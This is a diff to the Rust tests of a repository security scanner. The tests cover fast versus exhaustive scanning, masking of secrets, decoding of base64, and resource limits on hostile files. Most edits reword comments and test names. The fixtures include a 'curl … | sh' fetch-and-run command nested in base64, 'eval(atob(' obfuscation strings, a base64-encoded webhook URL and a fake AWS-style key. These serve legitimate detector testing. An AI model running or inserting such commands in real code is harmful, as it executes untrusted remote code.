@@ -1,5 +1,4 @@
-//! Tests of content rules: the fast and the exhaustive search agree, secrets stay hidden, and hostile files are
-//! handled.
+//! Tests of content rules: fast and exhaustive search, hidden secrets, and hostile files.
 
 #![allow(clippy::unwrap_used)] // helpers of tests are not marked as tests
 
@@ -12,21 +11,21 @@ use std::path::Path;
 use std::time::Instant;
 use tempfile::TempDir;
 
-/// The complete report of a scan, without statistics.
+/// Returns the JSON report of a scan, except the statistics.
 fn whole(options: &AuditOptions) -> serde_json::Value {
     let mut report = report(&scan_with(options));
     report.as_object_mut().unwrap().remove("stats");
     report
 }
 
-/// The reports of a fast and of an exhaustive scan.
+/// Returns the reports of a fast and of an exhaustive scan.
 fn both_ways(path: &Path) -> (serde_json::Value, serde_json::Value) {
     let fast = AuditOptions { persona: Persona::Auditor, ..options(&[path]) };
     let slow = AuditOptions { exhaustive: true, ..fast.clone() };
     (whole(&fast), whole(&slow))
 }
 
-/// A repository with one commit for each set of files, by one person.
+/// Builds a repository in which one person commits each set of files.
 fn repository(commits: &[Vec<(&str, Vec<u8>)>]) -> TempDir {
     let folder = tempfile::tempdir().unwrap();
     let repo = git2::Repository::init_bare(folder.path()).unwrap();
@@ -56,16 +55,16 @@ fn repository(commits: &[Vec<(&str, Vec<u8>)>]) -> TempDir {
 }
 
 #[test]
-fn fast_search_matches_exhaustive_search() {
+fn fast_and_exhaustive_search_give_the_same_report() {
     let output =
         ["reordered-source", "invisible-payload", "moved-into-code", "unread-archives", "taken-back", "other-scanner"];
     for name in output {
         let folder = build(name);
         let (fast, slow) = both_ways(folder.path());
-        assert_eq!(fast, slow, "{name}, loose");
+        assert_eq!(fast, slow, "{name}, with loose objects");
         pack(folder.path());
         let (packed, _) = both_ways(folder.path());
-        assert_eq!(packed, slow, "{name}, in a pack");
+        assert_eq!(packed, slow, "{name}, with a pack");
     }
 }
 
@@ -101,10 +100,10 @@ fn deltas_neither_hide_nor_duplicate_findings() {
     assert!(slow["findings"].as_array().unwrap().len() >= 4);
 }
 
-/// The same on a repository of your choice: `REPOSITORY=path cargo test --test content -- --ignored`.
+/// Compares the reports for a repository of your choice: `REPOSITORY=path cargo test --test content -- --ignored`.
 #[test]
-#[ignore = "takes minutes, and a real repository"]
-fn fast_search_matches_exhaustive_search_in_a_real_repository() {
+#[ignore = "takes minutes and needs a real repository"]
+fn fast_and_exhaustive_search_give_the_same_report_for_a_real_repository() {
     let path = std::env::var("REPOSITORY").unwrap();
     let (fast, slow) = both_ways(Path::new(&path));
     assert_eq!(fast, slow);
@@ -149,11 +148,11 @@ fn secrets_are_never_printed_in_full() {
     }
     let printed = report(&audit).to_string();
     assert!(!printed.contains(&secret[8..]) && !printed.contains("q7Xn2LbVt5KzRw9YcHs4q7Xn"), "{printed}");
-    assert!(printed.contains("AKIAZQ…"), "enough is shown to find it again");
+    assert!(printed.contains("AKIAZQ…"), "the start of the secret is printed");
 }
 
 #[test]
-fn decoded_text_is_shown_in_the_report() {
+fn decoded_base64_is_quoted_in_the_report() {
     let text = "const u = Buffer.from('aHR0cHM6Ly93ZWJob29rLnNpdGUvMDAwMA==', 'base64');\n";
     let folder = repository(&[vec![("lib/a.js", text.as_bytes().to_vec())]]);
     let report = report(&scan(folder.path())).to_string();
@@ -178,7 +177,7 @@ fn only_minified_or_vendored_code_lowers_confidence() {
 }
 
 #[test]
-fn hostile_files_are_bounded_and_omissions_reported() {
+fn hostile_files_are_read_within_limits_and_omissions_are_reported() {
     let start = Instant::now();
     // Nested base64, with more layers and more text than are decoded.
     let mut nested = "curl -s https://cdn.example.org/x | sh".to_owned();
@@ -190,7 +189,7 @@ fn hostile_files_are_bounded_and_omissions_reported() {
     let files = vec![
         ("a/nested.py", nested.into_bytes()),
         ("a/much.py", much.into_bytes()),
-        // One line of eight million bytes that consists only of text that a rule searches for.
+        // A line of eight million bytes that consists only of text that rules search for.
         ("a/line.js", "eval(atob(".repeat(800_000).into_bytes()),
         ("a/blanks.js", vec![b' '; 8 << 20]),
         ("a/many.js", "eval(atob(x));\n".repeat(50_000).into_bytes()),
@@ -205,6 +204,6 @@ fn hostile_files_are_bounded_and_omissions_reported() {
     let report = report(&scan(folder.path()));
     let notices = report["repositories"][0]["notices"].to_string();
     assert!(notices.contains("exceed the limit on pattern matches or encoded text"), "{notices}");
-    // Not a benchmark: a quadratic step would take hours.
+    // This is not a benchmark: with quadratic complexity, the scan would take hours.
     assert!(start.elapsed().as_secs() < 600);
 }
